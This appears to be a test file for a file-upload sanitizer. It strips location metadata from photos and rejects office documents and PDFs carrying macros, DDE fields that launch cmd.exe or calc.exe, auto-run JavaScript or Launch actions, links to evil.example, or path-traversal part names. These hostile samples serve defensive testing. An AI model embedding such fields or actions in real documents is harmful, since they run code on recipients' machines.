/** What files carry besides what a person means to send. */
import { deflateSync } from 'node:zlib'
import { ORDER_FILE_LIMITS, PICTURE_PIXELS_MAX, RETURN_FILE_LIMITS } from '@cartwright/core/rules'
import { processorMs } from '@cartwright/core/testing'
import { describe, expect, it } from 'vitest'
import { pngChunk } from '../codes/png'
import { readAs } from './file-type'
import { compound, fileOf, zip } from './files.testing'
import { hasScripts } from './pdf-scripts'
import { readFile } from './read-file'
import { noScanner } from './scanner'

/** One pass takes less than a second of the processor, some on a slow one; a reader that goes back takes minutes. */
const ONE_PASS_MS = 30_000

const contentOf = async (type: 'jpg' | 'png' | 'pdf') => Buffer.from(await fileOf(type).arrayBuffer())
const send = (name: string, content: Buffer) =>
  readFile(new File([Uint8Array.from(content)], name), ORDER_FILE_LIMITS, noScanner)

/** A segment of a JPEG behind its start. */
function withSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 0xff])
  return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)])
}

/** Pictures that say to be so large; pixels behind it are those of another size, but for a PNG that is taken. */
const sized: Record<'jpg' | 'png' | 'webp', (width: number, height: number) => Promise<Buffer>> = {
  jpg: async (width, height) => {
    const jpeg = await contentOf('jpg')
    const frame = [0xc0, 0xc1, 0xc2].map(marker => jpeg.indexOf(Buffer.from([0xff, marker]))).find(at => at > 0) ?? 0
    jpeg.writeUInt16BE(height, frame + 5)
    jpeg.writeUInt16BE(width, frame + 7)
    return jpeg
  },
  png: async (width, height) => {
    const png = await contentOf('png')
    const head = Buffer.from(png.subarray(16, 29))
    head.writeUInt32BE(width, 0)
    head.writeUInt32BE(height, 4)
    // Unpacked they take a byte each, and a filter for each row.
    const rows = width * height <= PICTURE_PIXELS_MAX ? height : 1
    const pixels = pngChunk('IDAT', deflateSync(Buffer.alloc(rows * (1 + width)), { level: 1 }))
    return Buffer.concat([png.subarray(0, 8), pngChunk('IHDR', head), pixels, png.subarray(-12)])
  },
  webp: async (width, height) => {
    const canvas = Buffer.alloc(18)
    canvas.write('VP8X', 0, 'latin1')
    canvas.writeUInt32LE(10, 4)
    canvas.writeUIntLE(width - 1, 12, 3)
    canvas.writeUIntLE(height - 1, 15, 3)
    const webp = Buffer.from(await fileOf('webp').arrayBuffer())
    const whole = Buffer.concat([webp.subarray(0, 12), canvas, webp.subarray(12)])
    whole.writeUInt32LE(whole.length - 8, 4)
    return whole
  },
}

describe('the size of a picture', () => {
  it.each(['jpg', 'png', 'webp'] as const)('API-087 of %s is at most 75 million pixels', async type => {
    const take = async (width: number, height: number) =>
      readFile(
        new File([Uint8Array.from(await sized[type](width, height))], `photo.${type}`),
        RETURN_FILE_LIMITS,
        noScanner,
      )
    expect(await take(10_000, 7_500)).toMatchObject({ type })
    await expect(take(10_000, 7_501)).rejects.toMatchObject({
      code: 601,
      message: 'The picture has more than 75 million pixels. Please make it smaller.',
    })
    for (const [width, height] of [
      [10_000, 10_000],
      [60_000, 60_000],
    ] as const)
      await expect(take(width, height)).rejects.toMatchObject({ code: 601 })
  })
})

/** Exif with an orientation, as a phone writes it, and a place in words. */
function exif(orientation: number, endian: 'II' | 'MM'): Buffer {
  const tiff = Buffer.alloc(26)
  const short = (value: number, at: number) =>
    endian === 'II' ? tiff.writeUInt16LE(value, at) : tiff.writeUInt16BE(value, at)
  tiff.write(endian, 0, 'latin1')
  short(42, 2)
  if (endian === 'II') tiff.writeUInt32LE(8, 4)
  else tiff.writeUInt32BE(8, 4)
  short(1, 8)
  short(0x0112, 10)
  short(3, 12)
  short(1, endian === 'II' ? 14 : 16)
  short(orientation, 18)
  return Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff, Buffer.from('GPS 52.3702 4.8952')])
}

describe('F27 a picture', () => {
  it.each(['II', 'MM'] as const)('keeps how it is turned, and nothing of its place: %s', async endian => {
    const plain = await contentOf('jpg')
    const { content } = await send('photo.jpg', withSegment(plain, 0xe1, exif(6, endian)))
    expect(content.toString('latin1')).not.toContain('GPS')
    expect(content.toString('latin1')).toContain('Exif')
    const turned = content.indexOf(Buffer.from([0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6]))
    expect(turned).toBeGreaterThan(0)
    expect(readAs('jpg', content)).toEqual(content)
  })

  it('loses texts of cameras and programs; the pixels stay byte for byte', async () => {
    const plain = await contentOf('jpg')
    const clean = (await send('photo.jpg', plain)).content
    let dirty: Buffer = plain
    dirty = withSegment(
      dirty,
      0xe1,
      Buffer.from('http://ns.adobe.com/xap/1.0/\0<exif:GPSLatitude>52</exif:GPSLatitude>'),
    )
    dirty = withSegment(dirty, 0xed, Buffer.from('Photoshop 3.0\0 City: Amsterdam'))
    dirty = withSegment(dirty, 0xfe, Buffer.from('Amsterdam'))
    dirty = withSegment(dirty, 0xe1, Buffer.from('Exif\0\0MM damaged'))
    expect((await send('photo.jpg', dirty)).content).toEqual(clean)
    expect(readAs('jpg', clean)).toEqual(clean)
  })

  it('as PNG loses them too', async () => {
    const plain = await contentOf('png')
    const chunks = [
      pngChunk('tEXt', Buffer.from('Location\0Amsterdam')),
      pngChunk('iTXt', Buffer.from('XML:com.adobe.xmp\0\0\0\0\0GPSLatitude')),
      pngChunk('eXIf', Buffer.from('MM\0*GPS')),
    ]
    const dirty = Buffer.concat([plain.subarray(0, 33), ...chunks, plain.subarray(33)])
    expect((await send('scan.png', dirty)).content).toEqual(plain)
  })
})

describe('G9 a PNG', () => {
  it('loses the chunks that programs add of their own', async () => {
    const plain = await contentOf('png')
    const page = pngChunk('htMl', Buffer.from('<script>alert(1)</script>'))
    const dirty = Buffer.concat([plain.subarray(0, 33), page, plain.subarray(33)])
    expect((await send('scan.png', dirty)).content).toEqual(plain)
  })

  it.each([
    ['pixels that are not packed', (png: Buffer) => [png.subarray(0, 33), pngChunk('IDAT', Buffer.from('<html>'))]],
    [
      'fewer pixels than its size',
      (png: Buffer) => [png.subarray(0, 33), pngChunk('IDAT', deflateSync(Buffer.alloc(1)))],
    ],
    [
      'more pixels than its size',
      (png: Buffer) => [png.subarray(0, 33), pngChunk('IDAT', deflateSync(Buffer.alloc(5_000_000)))],
    ],
    [
      'pixels that end in the middle',
      (png: Buffer) => [png.subarray(0, 33), pngChunk('IDAT', deflateSync(Buffer.alloc(2)).subarray(0, -5))],
    ],
    ['a chunk with a wrong check sum', (png: Buffer) => [png.subarray(0, 33), Buffer.from('\0\0\0\x01IDATx\0\0\0\0')]],
    ['a chunk that is longer than the file', (png: Buffer) => [png.subarray(0, 33), Buffer.from('\0\x01\0\0IDATx')]],
  ])('is refused with %s', async (_what, of) => {
    const plain = await contentOf('png')
    const broken = Buffer.concat([...of(plain), plain.subarray(-12)])
    await expect(send('scan.png', broken)).rejects.toMatchObject({
      code: 601,
      message: 'The file does not open in the format its name says.',
    })
  })
})

describe('G9 an office file', () => {
  const TYPES = '[Content_Types].xml'
  const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const docx = (files: Record<string, string>) =>
    zip({ [TYPES]: '<Types/>', 'word/document.xml': '<document/>', ...files })
  const relation = (attributes: string) =>
    docx({ 'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="rId1" ${attributes}/></Relationships>` })
  const macros = { code: 601, message: expect.stringMatching(/^The document holds macros or content from elsewhere\./) }
  const noFile = { code: 601, message: 'The file does not open in the format its name says.' }

  it.each([
    ['a program', docx({ 'word/vbaProject.bin': 'x' })],
    [
      'a program by another name',
      zip({
        [TYPES]: '<Default ContentType="application/vnd.ms-office.vbaProject"/>',
        'word/document.xml': '',
        'word/a.bin': '',
      }),
    ],
    [
      'a template elsewhere',
      relation(`Type="${RELATIONS}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"`),
    ],
    [
      'a frame, with the letters as numbers',
      relation(`Type="${RELATIONS}/frame" Target="https://evil.example/" TargetMode="&#69;xternal"`),
    ],
    [
      'an object that says in another place that it is a link',
      relation(`Type="${RELATIONS}/oleObject" Target='> Type="${RELATIONS}/hyperlink"' TargetMode="External"`),
    ],
    ['relations in another encoding', docx({ '_rels/.rels': '<\0R\0' })],
    ['relations with entities of its own', docx({ '_rels/.rels': '<!DOCTYPE a [<!ENTITY e "External">]>' })],
  ])('is refused with %s', async (_what, content) => {
    await expect(send('note.docx', content)).rejects.toMatchObject(macros)
  })

  it('is looked into where it is packed, up to a limit', async () => {
    const packed = (relations: string) =>
      zip({ [TYPES]: '<Types/>', 'word/document.xml': '', '_rels/.rels': relations }, true)
    const template = `<Relationship Type="${RELATIONS}/attachedTemplate" TargetMode="External"/>`
    await expect(send('note.docx', packed(template))).rejects.toMatchObject(macros)
    await expect(send('note.docx', packed(' '.repeat(5_000_000)))).rejects.toMatchObject(macros)
    const plain = packed('<Relationships/>')
    expect((await send('note.docx', plain)).content).toEqual(plain)
  })

  it('is refused with a sheet of macros', async () => {
    const book = zip({ [TYPES]: '<Types/>', 'xl/workbook.xml': '', 'xl/macrosheets/sheet1.xml': '' })
    await expect(send('note.xlsx', book)).rejects.toMatchObject(macros)
  })

  it.each([
    ['a field', { 'word/document.xml': '<w:instrText>DDEAUTO c:\\\\evil.exe "x"</w:instrText>' }],
    ['a field in pieces', { 'word/header1.xml': '<w:instrText>DD</w:instrText><w:b/><w:instrText>E x</w:instrText>' }],
    ['a simple field', { 'word/footer1.xml': '<w:fldSimple w:instr=" DDE excel a.xls r1c1 "/>' }],
    ['a field with letters as numbers', { 'word/footnotes.xml': '<w:instrText>&#68;DE x</w:instrText>' }],
    ['a field of another prefix', { 'word/header1.xml': '<x:instrText xmlns:x="a>b">DDEAUTO x</x:instrText>' }],
    ['a field without a prefix', { 'word/header1.xml': '<instrText>DDEAUTO x</instrText>' }],
    ['a field in a text of another name', { 'foo/main.xml': '<w:instrText>DDEAUTO x</w:instrText>' }],
    ['a field in marked characters', { 'word/header1.xml': '<w:instrText><![CDATA[DDEAUTO x]]></w:instrText>' }],
    ['a field made of numbers', { 'word/header1.xml': '<w:instrText> QUOTE 68 68 69 </w:instrText>' }],
    ['a field behind many blanks', { 'word/header1.xml': `<w:fldSimple w:instr="${' '.repeat(600)}DDE x"/>` }],
    ['a text in another encoding', { 'word/header1.xml': '<\0w\0' }],
  ])('is refused with %s that starts another program', async (_what, files) => {
    await expect(send('note.docx', docx({ 'word/document.xml': '<document/>', ...files }))).rejects.toMatchObject(
      macros,
    )
  })

  it.each([
    ['an object', 'note.docx', { 'word/document.xml': '', 'word/embeddings/oleObject1.bin': 'MZ' }],
    [
      'an object by another name',
      'note.docx',
      { 'word/document.xml': '', 'word/_rels/document.xml.rels': `<a Type="${RELATIONS}/oleObject"/>` },
    ],
    ['an add-in', 'note.xlsx', { 'xl/workbook.xml': '', 'xl/webextensions/webextension1.xml': '<a/>' }],
  ])('is refused with %s that runs', async (_what, name, files) => {
    await expect(send(name, zip({ [TYPES]: '<Types/>', ...files } as Record<string, string>))).rejects.toMatchObject(
      macros,
    )
  })

  it.each([
    ['tags without an end', '<w:instrText'],
    ['values without an end', 'instr="'],
    ['numbers of characters', '&#'],
    ['prefixes', '<a:'],
  ])('is looked through in one pass, up to a limit for all of its texts: %s', async (_what, text) => {
    const part = text.repeat(Math.floor(900_000 / text.length))
    const started = processorMs()
    await send('note.docx', docx({ 'word/document.xml': part, 'word/header1.xml': part }))
    expect(processorMs() - started).toBeLessThan(ONE_PASS_MS)
    const parts = Array.from({ length: 10 }, (_none, at) => [`word/header${at}.xml`, part] as const)
    const large = zip({ [TYPES]: '<Types/>', 'word/document.xml': '', ...Object.fromEntries(parts) }, true)
    await expect(send('note.docx', large)).rejects.toMatchObject(macros)
  })

  it('is refused with a workbook that asks another program, and not for the letters in a text', async () => {
    const book = (files: Record<string, string>) => zip({ [TYPES]: '<Types/>', 'xl/workbook.xml': '', ...files })
    const link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    await expect(send('a.xlsx', book({ 'xl/externalLinks/externalLink1.xml': link }))).rejects.toMatchObject(macros)
    const text = '<w:t>DDE is a drum</w:t><w:instrText> PAGE </w:instrText>'
    expect(await send('note.docx', docx({ 'word/document.xml': text }))).toMatchObject({ type: 'docx' })
  })

  it('of the binary format is refused with a sheet of macros of Excel 4.0', async () => {
    const bookOf = (kind: number) => {
      const file = compound('Workbook')
      // A bound sheet: record, length, place, visibility, kind.
      file.set([0x09, 0x08, 0, 0, 0x85, 0, 8, 0, 0, 0, 0, 0, 0, kind, 1, 0], 512 * 3)
      return file
    }
    expect(await send('note.xls', bookOf(0))).toMatchObject({ type: 'xls' })
    await expect(send('note.xls', bookOf(1))).rejects.toMatchObject(macros)
  })

  it('of the binary formats is refused with macros', async () => {
    const withMacros = (type: string, storage: string) => {
      const file = compound(type)
      // The third entry of the directory.
      const at = 512 * 2 + 256
      file.write(storage, at, 'utf16le')
      file.writeUInt16LE((storage.length + 1) * 2, at + 64)
      file[at + 66] = 1
      return file
    }
    await expect(send('note.doc', withMacros('WordDocument', 'Macros'))).rejects.toMatchObject(macros)
    await expect(send('note.xls', withMacros('Workbook', '_VBA_PROJECT_CUR'))).rejects.toMatchObject(macros)
    expect(await send('note.doc', withMacros('WordDocument', 'ObjectPool'))).toMatchObject({ type: 'doc' })
  })

  it.each(['latin1', 'utf16le'] as const)('of Word is refused with a field that runs a program: %s', async encoding => {
    const withText = (text: string, at: number) => {
      const file = compound('WordDocument')
      file.write(text, 512 * 3 + at, encoding)
      return file
    }
    const field = '\u0013 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" \u0014\u0015'
    await expect(send('note.doc', withText(field, 1024))).rejects.toMatchObject(macros)
    await expect(send('note.doc', withText(field, 1025))).rejects.toMatchObject(macros)
    const harmless = 'The DDE of Windows, and \u0013 HYPERLINK "https://example.com" \u0014here\u0015'
    expect(await send('note.doc', withText(harmless, 1024))).toMatchObject({ type: 'doc' })
  })

  it.each(['../../evil.exe', 'word/..\\..\\evil.exe', '/etc/passwd', '\\\\host\\share', 'C:evil.exe'])(
    'is none with a part named %s',
    async name => {
      await expect(send('note.docx', docx({ [name]: 'x' }))).rejects.toMatchObject(noFile)
    },
  )

  it('keeps its links and what is in it', async () => {
    const link = relation(`Type="${RELATIONS}/hyperlink" Target="https://example.com/?Type=1" TargetMode="External"`)
    expect((await send('note.docx', link)).content).toEqual(link)
    const part = relation(`Type="${RELATIONS}/image" Target="media/image1.png"`)
    expect((await send('note.docx', part)).content).toEqual(part)
  })
})

describe('F27 a PDF', () => {
  const pdf = (...objects: (string | Buffer)[]) =>
    Buffer.concat([
      ...['%PDF-1.7\n', ...objects, '\nstartxref\n9\n%%EOF\n'].map(part => Buffer.from(part as string, 'latin1')),
    ])
  const stream = (dictionary: string, data: Buffer) =>
    Buffer.concat([
      Buffer.from(`4 0 obj\n<<${dictionary} /Length ${data.length}>>\nstream\n`),
      data,
      Buffer.from('\nendstream\nendobj\n'),
    ])
  const packed = (text: string) => deflateSync(Buffer.from(text))
  const refused = { code: 601, message: expect.stringMatching(/^The PDF holds scripts or files, or is encrypted\./) }

  it.each([
    [
      'a script that runs when it is opened',
      pdf('1 0 obj\n<</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>\nendobj'),
    ],
    ['a name with escapes', pdf('1 0 obj\n<</S/J#61va#53cript/JS(x)>>\nendobj')],
    ['a program to start', pdf('1 0 obj\n<</AA <</O <</S /Launch /F (cmd.exe)>>>>>>\nendobj')],
    ['a file in it', pdf('1 0 obj\n<</Type /EmbeddedFile>>\nendobj')],
    [
      'packed objects',
      pdf(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed('1 0 <</S /JavaScript /JS (x)>>'))),
    ],
    ['objects packed in a way that is not read', pdf(stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from('x')))],
    [
      'packed objects that unpack to no end',
      pdf(stream('/Type /ObjStm /Filter /FlateDecode', packed(' '.repeat(20_000_000)))),
    ],
    ['encryption', pdf('trailer <</Encrypt 5 0 R>>')],
    ['a film with a script', pdf('1 0 obj\n<</OpenAction <</S /Rendition /JS (app.alert(1))>>>>\nendobj')],
    ['a script without its type, with escapes', pdf('1 0 obj\n<</AA <</O <</#4a#53 5 0 R>>>>>>\nendobj')],
    ['a form with scripts of its own', pdf('1 0 obj\n<</AcroForm <</XFA 5 0 R>>>>\nendobj')],
    ...['SubmitForm', 'GoToR', 'GoToE', 'Launch'].map((action): [string, Buffer] => [
      `${action} to another machine`,
      pdf(`1 0 obj\n<</OpenAction <</S /${action} /F (\\\\\\\\evil\\\\share)>>>>\nendobj`),
    ]),
    ...[
      '/Type /ObjStm /A <</B <</C <<>>>>>> /Filter /FlateDecode',
      '/Type /ObjStm /X (>) /Filter /FlateDecode',
      '/Type /ObjStm /X (stream\n) /Filter [ /FlateDecode ]',
      '/Type /Obj#53tm /Filter/FlateDecode',
      '/N 1 /First 4 /Filter /FlateDecode',
      '/Type /ObjStm /F /FlateDecode',
      '/Type /ObjStm /Filter 5 0 R',
      '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]',
      '/Type /ObjStm /Filter /FlateDecode /Filter /LZWDecode',
    ].map((dictionary): [string, Buffer] => [
      `packed objects of ${dictionary}`,
      pdf(stream(dictionary, packed('1 0 <</S /Rendition /JS (x)>>'))),
    ]),
    [
      'packed objects behind a comment',
      pdf('4 0 obj\n<</Type /ObjStm /Filter /FlateDecode>> %c\nstream\n', packed('1 0 <</JS (x)>>'), '\nendstream\n'),
    ],
    [
      'packed objects whose beginning is within a string of another object',
      pdf('1 0 obj\n(\n', stream('/Type /ObjStm /Filter /FlateDecode', packed('1 0 <</JS (x)>>')), ')\nendobj\n'),
    ],
    ['G9 an address that it opens', pdf('1 0 obj\n<</OpenAction <</S /URI /URI (https://evil.example)>>>>\nendobj')],
    [
      'G9 an address that a page opens',
      pdf('1 0 obj\n<</AA <</O 02 0 R>>>>\nendobj\n2 0 obj\n<</S /U#52I /URI (x)>>\nendobj'),
    ],
    [
      'G9 an address that a second action opens',
      pdf(
        '1 0 obj\n<</OpenAction 2 0 R>>\nendobj\n2 0 obj\n<</S /GoTo /D [3 0 R /Fit] /Next [4 0 R]>>\nendobj\n',
        '4 0 obj\n<</S /URI /URI (x)>>\nendobj',
      ),
    ],
    [
      'G9 an address that it opens by packed objects',
      pdf(
        stream(
          '/Type /ObjStm /N 2 /First 9 /Filter /FlateDecode',
          packed('1 0 2 22 <</OpenAction 2 0 R>> <</S /URI /URI (x)>>'),
        ),
      ),
    ],
    ['an object without an end', pdf('1 0 obj\n<</Title (x>>\nendobj')],
  ])('is refused with %s', async (_what, content) => {
    await expect(send('note.pdf', content)).rejects.toMatchObject(refused)
  })

  it.each([
    ['a page to begin with', pdf('1 0 obj\n<</OpenAction [3 0 R /FitH null]>>\nendobj')],
    [
      'packed objects without scripts',
      pdf(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed('1 0 <</Type /Page>>'))),
    ],
    [
      'G9 a page to begin with that has a link',
      pdf(
        '1 0 obj\n<</OpenAction 2 0 R>>\nendobj\n2 0 obj\n<</S /GoTo /D [3 0 R /Fit]>>\nendobj\n',
        '3 0 obj\n<</Annots [<</A <</S /URI /URI (https://example.com)>>>>]>>\nendobj',
      ),
    ],
    [
      'a link and a title with brackets',
      pdf('1 0 obj\n<</S /URI /URI (https://example.com/JS/) /T (a\\(b(c)) /ID <2f4a53>>>\nendobj'),
    ],
    [
      'what a program writes into a file without packed objects',
      pdf(
        '1 0 obj\n<</Type /Catalog /Pages 2 0 R /AcroForm <</Fields [5 0 R]>>>>\nendobj\n',
        stream('/Filter [/FlateDecode] /DecodeParms [null]', packed('BT (obj) Tj ET')),
        'xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 2 /Root 1 0 R>>',
      ),
    ],
    ['pixels that look like a short name', pdf(stream('/Filter /DCTDecode', Buffer.from('\x01/JS \x02')))],
  ])('is taken with %s', async (_what, content) => {
    expect((await send('note.pdf', content)).content).toEqual(content)
  })

  const fill = (text: string) => text.repeat(Math.ceil(2_000_000 / text.length)).slice(0, 2_000_000)
  it.each([
    ['blanks in a filter', pdf(`4 0 obj\n<</Type /ObjStm /Filter${fill(' ')}x>>\nstream\nx\nendstream\nendobj\n`)],
    ['blanks in a list of filters', pdf(`4 0 obj\n<</Type /ObjStm /Filter [${fill(' ')}x>>\nstream\nx\nendstream\n`)],
    ['blanks at the end', pdf(`startxref${fill(' ')}`)],
    ['line ends behind dictionaries', pdf(`4 0 obj\n<<>>${fill('\n')}`)],
    ...[
      '<<',
      '<',
      '(',
      '[',
      '/',
      '/a',
      '/#',
      '%',
      '>>',
      '{',
      'obj ',
      '1 0 obj<<',
      '1 0 obj(',
      '1 0 obj<',
      '1 0 obj[',
      'trailer<<>>',
    ]
      .concat(
        'stream\n',
        '<<>>stream\n',
        '1 0 obj<<>>stream\n',
        '1 0 obj(obj)',
        '((obj )',
        'obj %',
        '/Filter ',
        '1 0 obj/AA<<',
      )
      .concat('1 0 obj<</First 1>>stream\n', '1 0 obj<</First 1/Filter/FlateDecode>>stream\n')
      .map((text): [string, Buffer] => [`${JSON.stringify(text)} over and over`, pdf(`1 0 obj${fill(text)}`)]),
    ['G9 triggers one after the other', pdf(`1 0 obj<<${'/AA '.repeat(400_000)}>>endobj`)],
    ['G9 triggers in triggers', pdf(`1 0 obj<<${'/AA<<'.repeat(200_000)}${'>>'.repeat(200_000)}>>endobj`)],
    ['brackets in brackets', pdf(`1 0 obj(${fill('obj(')}${fill('obj)')}`)],
    ['a packed bomb of names', pdf(stream('/First 1 /Filter /FlateDecode', packed('/abcdefghij'.repeat(700_000))))],
    [
      'many packed objects',
      pdf(...Array.from({ length: 2000 }, () => stream('/First 1 /Filter /FlateDecode', packed(' '.repeat(8000))))),
    ],
  ])('F27 is looked through in one pass: %s', (_what, content) => {
    const started = processorMs()
    hasScripts(content)
    readAs('pdf', content)
    expect(processorMs() - started).toBeLessThan(ONE_PASS_MS)
  })
})

it('F27 a picture of nothing but small segments is read in one pass', async () => {
  const plain = await contentOf('jpg')
  const segment = Buffer.from(`ffe1001c457869660000${'49492a0008000000ffff'.padEnd(40, '0')}`, 'hex')
  const hostile = Buffer.concat([plain.subarray(0, 2), ...Array(60_000).fill(segment), plain.subarray(2)])
  const started = processorMs()
  await send('photo.jpg', hostile)
  expect(processorMs() - started).toBeLessThan(ONE_PASS_MS)
})
